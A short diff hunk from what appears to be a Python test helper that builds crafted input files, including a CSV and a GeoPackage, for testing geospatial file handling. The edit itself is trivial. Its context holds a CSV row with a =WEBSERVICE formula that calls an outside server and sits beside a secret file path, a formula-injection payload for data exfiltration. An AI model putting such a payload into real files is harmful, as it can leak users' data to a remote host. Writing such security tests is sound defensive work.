@@ -130,7 +130,7 @@ def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
         "link.csv": f'name,lat,lon\n=WEBSERVICE("{server}/x"),{curl},{secret}\n',
     }.items():
         text = json.dumps(what) if isinstance(what, dict) else what
-        (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode())
+        (folder / name).write_bytes(text if isinstance(text, bytes) else str(text).encode())
     one = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(-73.5, 45)], crs="EPSG:4326")
     for name, statements in {
         "view.gpkg": [
